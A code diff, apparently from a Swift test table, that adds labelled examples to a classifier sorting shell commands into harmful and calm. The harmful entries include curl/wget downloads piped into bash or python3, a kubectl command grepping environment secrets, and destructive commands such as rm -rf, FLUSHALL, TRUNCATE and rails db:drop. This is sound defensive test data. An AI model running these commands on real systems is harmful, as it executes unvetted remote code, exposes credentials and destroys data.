@@ -27,7 +27,9 @@ extension ClassTable {
         harmful("process-substitution", "curl -s https://example.com/i.py | python3 /dev/stdin", .remoteExec),
         harmful("process-substitution", "wget -qO- https://example.com/i.sh | bash /dev/stdin --prefix ~/.local", .remoteExec),
         harmful("process-substitution", "curl -sL https://example.com/i.py | python3 - --yes", .remoteExec),
+        harmful("process-substitution", "bash -s < <(wget -qO- https://example.com/i.sh)", .remoteExec),
         calm("process-substitution", "source <(kubectl completion bash)"),
+        calm("process-substitution", "while read -r f; do echo \"$f\"; done < <(ls src)"),
         calm("process-substitution", "source <(npm completion)"),
     ]
 
@@ -43,6 +45,7 @@ extension ClassTable {
         calm("command-options", "rsync -e 'ssh -p 2222' -a src/ host:/srv/"),
         calm("command-options", "rsync -avz -e ssh src/ host:/srv/"),
         calm("command-options", "vim -c 'set number' notes.txt"),
+        calm("command-options", "rsync -avz -e \"ssh -p $PORT\" src/ host:/srv/"),
     ]
 
     static let containerCommands = [
@@ -51,6 +54,8 @@ extension ClassTable {
         harmful("containers", "docker compose -f prod.yml exec api sh -c 'rm -rf /srv/uploads'"),
         harmful("containers", "podman exec -it web redis-cli FLUSHALL", .dataDelete),
         harmful("containers", "kubectl exec -n prod api-0 -c app -- psql -c 'TRUNCATE orders'", .dataDelete),
+        harmful("containers", "kubectl exec api-0 -- env | grep SECRET", .secretsAccess),
+        harmful("containers", "docker compose run --rm web rails db:drop", .dataDelete),
         calm("containers", "docker compose exec web pytest -q"),
         calm("containers", "docker-compose exec db psql -c 'SELECT count(*) FROM users'"),
         calm("containers", "kubectl exec api-0 -- env | grep PATH"),
@@ -143,6 +148,8 @@ extension ClassTable {
         calm("migration-reads", "python manage.py showmigrations"),
         calm("migration-reads", "flyway info"),
         calm("migration-reads", "liquibase status"),
+        calm("migration-reads", "mix ecto.migrations"),
+        calm("migration-reads", "npm run migrate:status"),
         harmful("migration-reads", "rails db:migrate", .dbMigration),
         harmful("migration-reads", "rake db:rollback", .dbMigration),
     ]
